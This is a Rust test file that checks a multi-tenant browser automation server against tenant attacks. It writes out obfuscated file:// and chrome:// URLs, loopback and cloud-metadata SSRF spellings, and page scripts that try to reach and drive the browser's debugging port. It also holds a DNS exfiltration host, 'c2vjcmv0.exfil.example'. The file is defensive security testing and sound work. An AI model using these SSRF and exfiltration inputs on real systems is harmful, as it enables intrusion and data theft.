//! Hostile tenants against the browser they share: URLs the browser's parser reads
//! differently from a string test, loopback and private addresses in every spelling, DNS names
//! pointing inside, redirects and subresources, and the browser's own debugging port reached
//! from page JavaScript. Each test uses real Chromium behind the server's egress proxies, and
//! fixture servers on 127.0.0.1 (which the default policy refuses, so tenants that need them
//! have them on their allow-list).

use crate::support::{FixtureServer, HttpServer, Route, TenantSpec};
use serde_json::json;

fn fixtures() -> FixtureServer {
    FixtureServer::start(vec![
        Route::html(
            "/page",
            "<!doctype html><title>Fixture</title><p>fixture page body</p>",
        ),
        Route::new("/api", "application/json", "{\"answer\":42}"),
    ])
}

/// A fixture whose `/hop` redirects to `target`.
fn redirecting_to(target: &str) -> FixtureServer {
    FixtureServer::start(vec![
        Route::new("/hop", "text/plain", "moved")
            .with_status(302)
            .with_header("Location", target),
        Route::html(
            "/page",
            "<!doctype html><title>Fixture</title><p>fixture page body</p>",
        ),
    ])
}

/// The text of the selected page as a snapshot shows it.
async fn snapshot(client: &crate::support::HttpClient) -> String {
    client.call("take_snapshot", json!({})).await.text
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_url_spelling_opens_a_file_or_a_browser_internal_page_for_a_tenant() {
    let server = HttpServer::start(
        &[
            TenantSpec::new("alice", "token-alice"),
            TenantSpec::new("mallory", "token-mallory"),
        ],
        &[],
    )
    .await;
    let secret = server.root("alice").join("secret.txt");
    std::fs::write(&secret, "alice's secret").expect("write alice's file");
    let secret = secret.display().to_string();
    let mallory = server.connect("token-mallory").await;
    let file_forms = [
        format!("file://{secret}"),
        format!("fi\tle://{secret}"),
        format!("fi\nle://{secret}"),
        format!("f\ri\tl\ne://{secret}"),
        format!(" \u{1}file://{secret}"),
        format!("\u{0}\u{1f} FILE://{secret}"),
        format!("file:{secret}"),
        format!("file://localhost{secret}"),
        "file:///".to_owned(),
        "fi\tle:///etc/passwd".to_owned(),
    ];
    let internal_forms = [
        "chrome://version",
        "ch\trome://version",
        "\u{1}chrome://settings",
        "chrome-untrusted://terms",
        "devtools://devtools/bundled/inspector.html",
        "dev\ntools://devtools/bundled/inspector.html",
        "view-source:https://example.com/",
        "view-\tsource:file:///etc/passwd",
        "filesystem:http://127.0.0.1/temporary/x",
    ];
    for url in file_forms.iter().map(String::as_str).chain(internal_forms) {
        for tool in ["new_page", "navigate_page"] {
            let answer = mallory.call(tool, json!({ "url": url })).await;
            assert!(
                answer.is_error,
                "{tool} {url:?} was not refused: {}",
                answer.text
            );
            assert!(
                answer.text.contains("are not available to tenants"),
                "{tool} {url:?}: {}",
                answer.text
            );
        }
    }
    let pages = mallory.call("list_pages", json!({})).await;
    for leaked in [
        "alice's secret",
        "file:",
        "chrome:",
        "devtools:",
        "view-source:",
    ] {
        assert!(
            !pages.text.contains(leaked),
            "a page was opened: {}",
            pages.text
        );
    }
    assert!(
        !snapshot(&mallory).await.contains("alice's secret"),
        "mallory read alice's file"
    );
    mallory.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn javascript_and_data_urls_and_init_scripts_need_the_right_to_run_script() {
    let pages = fixtures();
    let server = HttpServer::start(
        &[
            TenantSpec::new("reader", "token-reader")
                .on_loopback()
                .with("deny_tools = [\"evaluate_script\"]"),
            TenantSpec::new("scripter", "token-scripter").on_loopback(),
        ],
        &[],
    )
    .await;
    let reader = server.connect("token-reader").await;
    for url in [
        "javascript:document.title='owned'",
        "java\tscript:document.title='owned'",
        "data:text/html,<title>owned</title>",
    ] {
        let answer = reader.call("new_page", json!({ "url": url })).await;
        assert!(answer.is_error, "{url:?}: {}", answer.text);
        assert!(
            answer.text.contains("may not run script"),
            "{}",
            answer.text
        );
    }
    let init = reader
        .call(
            "navigate_page",
            json!({ "url": pages.url("/page"), "initScript": "document.title = 'owned'" }),
        )
        .await;
    assert!(init.is_error, "initScript ran: {}", init.text);
    assert!(init.text.contains("initScript"), "{}", init.text);

    let scripter = server.connect("token-scripter").await;
    let data = scripter
        .call(
            "new_page",
            json!({ "url": "data:text/html,<title>mine</title><p>data page</p>" }),
        )
        .await;
    assert!(!data.is_error, "{}", data.text);
    let init = scripter
        .call(
            "navigate_page",
            json!({ "url": pages.url("/page"), "initScript": "window.initRan = 7" }),
        )
        .await;
    assert!(!init.is_error, "{}", init.text);
    let ran = scripter
        .call(
            "evaluate_script",
            json!({ "function": "() => window.initRan" }),
        )
        .await;
    assert!(ran.text.contains('7'), "{}", ran.text);
    reader.close().await;
    scripter.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn userinfo_that_looks_like_an_allowed_host_is_refused() {
    let pages = fixtures();
    let server = HttpServer::start(
        &[TenantSpec::new("alice", "token-alice").on_loopback()],
        &[],
    )
    .await;
    let alice = server.connect("token-alice").await;
    let tricked = format!("http://127.0.0.1:1@localhost:{}/page", pages.port());
    let answer = alice.call("navigate_page", json!({ "url": tricked })).await;
    assert!(answer.is_error, "{}", answer.text);
    assert!(
        answer.text.contains("user name or password"),
        "{}",
        answer.text
    );
    alice.close().await;
}

/// Every spelling of loopback the browser's parser accepts, and names that resolve to it.
fn loopback_spellings(port: u16) -> Vec<String> {
    [
        "127.0.0.1",
        "localhost",
        "localhost.",
        "LOCALHOST",
        "[::1]",
        "0.0.0.0",
        "2130706433",
        "127.1",
        "0x7f000001",
        "0177.0.0.1",
        "%31%32%37.0.0.1",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "127.0.0.2",
    ]
    .iter()
    .map(|host| format!("http://{host}:{port}/page"))
    .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn by_default_a_tenant_reaches_no_loopback_private_or_link_local_address() {
    let pages = fixtures();
    let server = HttpServer::start(&[TenantSpec::new("alice", "token-alice")], &[]).await;
    let alice = server.connect("token-alice").await;
    let mut urls = loopback_spellings(pages.port());
    urls.extend(
        [
            "http://169.254.169.254/latest/meta-data/",
            "http://10.0.0.1/",
            "http://192.168.0.1/",
            "http://[fd00::1]/",
            "http://[fe80::1]/",
            "https://127.0.0.1:8443/",
        ]
        .map(String::from),
    );
    urls.push(format!("{}/metrics", server.base));
    for url in &urls {
        let answer = alice.call("navigate_page", json!({ "url": url })).await;
        let shown = snapshot(&alice).await;
        assert!(
            !shown.contains("fixture page body") && !shown.contains("devtools_mcp_"),
            "{url} was reached: {shown}"
        );
        assert!(
            answer
                .text
                .contains("Refused by this server's egress policy"),
            "{url}: the answer does not say why: {}",
            answer.text
        );
    }
    assert!(
        pages.requests().is_empty(),
        "the fixture server was reached: {:?}",
        pages.requests()
    );
    alice.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_allow_list_admits_what_it_lists_and_the_deny_list_and_defaults_still_hold_for_subresources_and_redirects()
 {
    let pages = fixtures();
    let inside = fixtures();
    let hop = redirecting_to(&format!("http://127.0.0.2:{}/page", inside.port()));
    let server = HttpServer::start(
        &[TenantSpec::new("alice", "token-alice")
            .on_loopback()
            .with("egress_deny = [\"localhost\"]")],
        &[],
    )
    .await;
    let alice = server.connect("token-alice").await;
    let opened = alice
        .call("navigate_page", json!({ "url": pages.url("/page") }))
        .await;
    assert!(!opened.is_error, "{}", opened.text);
    assert!(snapshot(&alice).await.contains("fixture page body"));

    // Page-initiated requests: fetch, XHR, an image, an iframe, a WebSocket, a popup.
    let script = format!(
        r#"async () => {{
            const port = {port};
            const results = {{}};
            const attempt = async (name, url) => {{
                try {{ const r = await fetch(url); results[name] = r.status + ':' + (await r.text()).slice(0, 80); }}
                catch (error) {{ results[name] = 'failed'; }}
            }};
            await attempt('allowed', '/api');
            await attempt('default', 'http://127.0.0.2:' + port + '/api');
            await attempt('denied_name', 'http://localhost:' + port + '/api');
            await attempt('metadata', 'http://169.254.169.254/latest/meta-data/');
            results.xhr = await new Promise(done => {{
                const request = new XMLHttpRequest();
                request.open('GET', 'http://[::ffff:127.0.0.2]:' + port + '/api');
                request.onload = () => done(request.status + ':' + request.responseText.slice(0, 80));
                request.onerror = () => done('failed');
                request.send();
            }});
            results.image = await new Promise(done => {{
                const image = new Image();
                image.onload = () => done('loaded');
                image.onerror = () => done('failed');
                image.src = 'http://127.0.0.2:' + port + '/api';
            }});
            results.socket = await new Promise(done => {{
                const socket = new WebSocket('ws://127.0.0.2:' + port + '/');
                socket.onopen = () => done('open');
                socket.onerror = () => done('failed');
            }});
            return JSON.stringify(results);
        }}"#,
        port = inside.port()
    );
    let answer = alice
        .call("evaluate_script", json!({ "function": script }))
        .await;
    assert!(!answer.is_error, "{}", answer.text);
    assert!(
        answer
            .text
            .contains(r#"\"allowed\":\"200:{\\\"answer\\\":42}"#),
        "the allowed request: {}",
        answer.text
    );
    // Cross-origin answers are opaque to the page; the proxy's record names each refusal.
    let port = inside.port();
    for (refused, why) in [
        (
            format!("GET http://127.0.0.2:{port}/api"),
            "loopback (127.0.0.0/8)",
        ),
        (
            format!("GET http://localhost:{port}/api"),
            "egress_deny list",
        ),
        (
            "GET http://169.254.169.254/latest/meta-data/".to_owned(),
            "link-local",
        ),
        (format!("GET http://[::ffff:7f00:2]:{port}/api"), "loopback"),
        (format!("CONNECT 127.0.0.2:{port}"), "loopback"),
    ] {
        let line = answer
            .text
            .lines()
            .find(|line| line.contains(&format!("egress policy: {refused}:")))
            .unwrap_or_else(|| panic!("{refused} is not among the refusals: {}", answer.text));
        assert!(line.contains(why), "{line}");
    }
    for name in [
        "default",
        "denied_name",
        "metadata",
        "xhr",
        "image",
        "socket",
    ] {
        assert!(
            !answer.text.contains(&format!(r#"\"{name}\":\"200"#))
                && !answer.text.contains(&format!(r#"\"{name}\":\"loaded"#))
                && !answer.text.contains(&format!(r#"\"{name}\":\"open"#)),
            "{name} got through: {}",
            answer.text
        );
    }
    assert!(
        inside.requests().is_empty(),
        "a refused request arrived: {:?}",
        inside.requests()
    );
    assert_eq!(
        pages
            .requests()
            .iter()
            .filter(|line| line.contains("/api"))
            .count(),
        1,
        "the allowed request arrived once: {:?}",
        pages.requests()
    );

    // A redirect from an allowed page to a refused address.
    let redirected = alice
        .call(
            "navigate_page",
            json!({ "url": format!("http://127.0.0.1:{}/hop", hop.port()) }),
        )
        .await;
    assert!(
        redirected
            .text
            .contains("Refused by this server's egress policy"),
        "{}",
        redirected.text
    );
    assert!(!snapshot(&alice).await.contains("fixture page body"));
    assert!(
        !inside.requests().iter().any(|line| line.contains("/page")),
        "{:?}",
        inside.requests()
    );
    alice.close().await;
}

/// The debugging port of the browser the server launched: its profile's `DevToolsActivePort`.
fn debugging_port(server: &HttpServer) -> u16 {
    for pid in crate::support::descendants(server.pid()) {
        let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let cmdline = String::from_utf8_lossy(&cmdline).into_owned();
        if !cmdline.contains("--remote-debugging-port") {
            continue;
        }
        let Some(profile) = cmdline
            .split('\0')
            .find_map(|arg| arg.strip_prefix("--user-data-dir="))
        else {
            continue;
        };
        let active =
            std::fs::read_to_string(std::path::Path::new(profile).join("DevToolsActivePort"))
                .unwrap_or_default();
        if let Some(port) = active
            .lines()
            .next()
            .and_then(|line| line.trim().parse().ok())
        {
            return port;
        }
    }
    panic!("no browser with a debugging port under the server");
}

async fn debugger_json(port: u16, path: &str) -> serde_json::Value {
    let text = reqwest::get(format!("http://127.0.0.1:{port}{path}"))
        .await
        .expect("the debugging port answers the test")
        .text()
        .await
        .expect("a body");
    serde_json::from_str(&text).expect("JSON")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_tenant_page_reaches_the_browsers_debugging_port_even_with_loopback_allowed() {
    let pages = fixtures();
    let server = HttpServer::start(
        &[
            TenantSpec::new("mallory", "token-mallory")
                .with("egress_allow = [\"127.0.0.0/8\", \"::1/128\", \"localhost\"]"),
            TenantSpec::new("victim", "token-victim").on_loopback(),
        ],
        &[],
    )
    .await;
    let victim = server.connect("token-victim").await;
    let opened = victim
        .call(
            "navigate_page",
            json!({ "url": format!("{}#victim", pages.url("/page")) }),
        )
        .await;
    assert!(!opened.is_error, "{}", opened.text);
    let mallory = server.connect("token-mallory").await;
    let opened = mallory
        .call("navigate_page", json!({ "url": pages.url("/page") }))
        .await;
    assert!(!opened.is_error, "{}", opened.text);

    // What the test (not a tenant) sees on the port.
    let cdp = debugging_port(&server);
    let version = debugger_json(cdp, "/json/version").await;
    let browser_socket = version["webSocketDebuggerUrl"]
        .as_str()
        .expect("the browser's WebSocket URL")
        .to_owned();
    let targets = debugger_json(cdp, "/json/list").await;
    let victim_target = targets
        .as_array()
        .and_then(|targets| {
            targets.iter().find(|target| {
                target["url"]
                    .as_str()
                    .is_some_and(|url| url.ends_with("#victim"))
            })
        })
        .expect("the victim's page is a target");
    let victim_socket = victim_target["webSocketDebuggerUrl"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let victim_id = victim_target["id"].as_str().unwrap_or_default().to_owned();
    let before = targets.as_array().map(Vec::len).unwrap_or_default();

    let script = format!(
        r#"async () => {{
            const base = 'http://127.0.0.1:{cdp}';
            const results = {{}};
            const attempt = async (name, url, init) => {{
                try {{ const r = await fetch(url, init); results[name] = r.status + ':' + (await r.text()).slice(0, 60); }}
                catch (error) {{ results[name] = 'failed'; }}
            }};
            await attempt('version', base + '/json/version');
            await attempt('list', base + '/json/list');
            await attempt('localhost', 'http://localhost:{cdp}/json/list');
            await attempt('mapped', 'http://[::ffff:127.0.0.1]:{cdp}/json/list');
            await attempt('decimal', 'http://2130706433:{cdp}/json/list');
            await attempt('new', base + '/json/new?about:blank', {{ method: 'PUT' }});
            await attempt('close', base + '/json/close/{victim_id}');
            results.xhr = await new Promise(done => {{
                const request = new XMLHttpRequest();
                request.open('GET', base + '/json/list');
                request.onload = () => done(request.status + ':' + request.responseText.slice(0, 60));
                request.onerror = () => done('failed');
                request.send();
            }});
            const socket = url => new Promise(done => {{
                const socket = new WebSocket(url);
                socket.onopen = () => {{ socket.send(JSON.stringify({{ id: 1, method: 'Target.getTargets' }})); }};
                socket.onmessage = event => done('answered:' + String(event.data).slice(0, 60));
                socket.onerror = () => done('failed');
                setTimeout(() => done('timeout'), 5000);
            }});
            results.browser_socket = await socket({browser_socket:?});
            results.page_socket = await socket({victim_socket:?});
            results.iframe = await new Promise(done => {{
                const frame = document.createElement('iframe');
                frame.src = base + '/json/list';
                frame.onload = () => done('loaded');
                document.body.append(frame);
                setTimeout(() => done('timeout'), 3000);
            }});
            const popup = window.open(base + '/json/new?about:blank');
            results.popup = popup ? 'opened' : 'blocked';
            await new Promise(done => setTimeout(done, 1000));
            return JSON.stringify(results);
        }}"#
    );
    let answer = mallory
        .call("evaluate_script", json!({ "function": script }))
        .await;
    assert!(!answer.is_error, "{}", answer.text);
    // No answer of the port reached the page (cross-origin answers would be opaque anyway,
    // which is why the proxy's record below is the proof).
    for name in [
        "version",
        "list",
        "localhost",
        "mapped",
        "decimal",
        "new",
        "close",
        "xhr",
    ] {
        assert!(
            !answer.text.contains(&format!(r#"\"{name}\":\"200"#)),
            "{name} reached the debugging port: {}",
            answer.text
        );
    }
    for name in ["browser_socket", "page_socket"] {
        assert!(
            answer.text.contains(&format!(r#"\"{name}\":\"failed\""#)),
            "{name}: {}",
            answer.text
        );
    }
    assert!(
        !answer.text.contains("webSocketDebuggerUrl"),
        "{}",
        answer.text
    );
    assert!(!answer.text.contains("answered:"), "{}", answer.text);
    for refused in [
        format!("GET http://127.0.0.1:{cdp}/json/version"),
        format!("GET http://127.0.0.1:{cdp}/json/list"),
        format!("GET http://localhost:{cdp}/json/list"),
        format!("GET http://[::ffff:7f00:1]:{cdp}/json/list"),
        format!("GET http://127.0.0.1:{cdp}/json/close/{victim_id}"),
        format!("CONNECT 127.0.0.1:{cdp}"),
    ] {
        let line = answer
            .text
            .lines()
            .find(|line| line.contains(&format!("egress policy: {refused}:")))
            .unwrap_or_else(|| panic!("{refused} is not among the refusals: {}", answer.text));
        assert!(line.contains("remote-debugging port"), "{line}");
    }
    assert!(
        answer.text.contains("/json/new?about:blank:"),
        "the /json/new attempt was refused: {}",
        answer.text
    );
    // The iframe and the popup loaded the proxy's refusal, not the port's JSON.
    let frames = mallory.call("take_snapshot", json!({})).await;
    assert!(
        !frames.text.contains("webSocketDebuggerUrl"),
        "{}",
        frames.text
    );

    // Nothing changed on the browser's side: no page opened, the victim's page alive.
    let after = debugger_json(cdp, "/json/list").await;
    let targets_after = after.as_array().cloned().unwrap_or_default();
    assert!(
        targets_after
            .iter()
            .any(|target| target["id"] == victim_id.as_str()),
        "the victim's page was closed"
    );
    assert!(
        !targets_after
            .iter()
            .any(|target| target["url"] == "about:blank"
                && !targets
                    .as_array()
                    .is_some_and(|old| old.iter().any(|old| old["id"] == target["id"]))),
        "a page was opened through /json/new: before {before}, after {}",
        targets_after.len()
    );
    let victim_still = victim.call("list_pages", json!({})).await;
    assert!(
        victim_still.text.contains("#victim"),
        "{}",
        victim_still.text
    );
    mallory.close().await;
    victim.close().await;
}

/// Finding 11: a tenant that may reach only its allow-list never has a name of the page's
/// choosing resolved (the DNS query would carry the page's data out). The proxy refuses such
/// names by name; an address on the list still works.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_closed_tenant_has_no_name_resolved_that_its_allow_list_does_not_name() {
    let pages = fixtures();
    let server = HttpServer::start(
        &[TenantSpec::new("alice", "token-alice")
            .on_loopback()
            .with("egress_public = false")],
        &[],
    )
    .await;
    let alice = server.connect("token-alice").await;
    let opened = alice
        .call("navigate_page", json!({ "url": pages.url("/page") }))
        .await;
    assert!(!opened.is_error, "{}", opened.text);
    let port = pages.port();
    let script = format!(
        r#"async () => {{
            for (const host of ['localhost', 'c2vjcmv0.exfil.example']) {{
                try {{ await fetch('http://' + host + ':{port}/api'); }} catch (error) {{}}
            }}
            return 'done';
        }}"#
    );
    let ran = alice
        .call("evaluate_script", json!({ "function": script }))
        .await;
    assert!(!ran.is_error, "{}", ran.text);
    // The notes come with the call the refusals happened in, or else with the next one.
    let next = alice.call("list_pages", json!({})).await;
    let notes = format!("{}\n{}", ran.text, next.text);
    for host in ["localhost", "c2vjcmv0.exfil.example"] {
        let line = notes
            .lines()
            .find(|line| line.contains(&format!("egress policy: GET http://{host}:{port}/api:")))
            .unwrap_or_else(|| panic!("{host} is not among the refusals: {notes}"));
        assert!(line.contains("it was not resolved"), "{line}");
    }
}
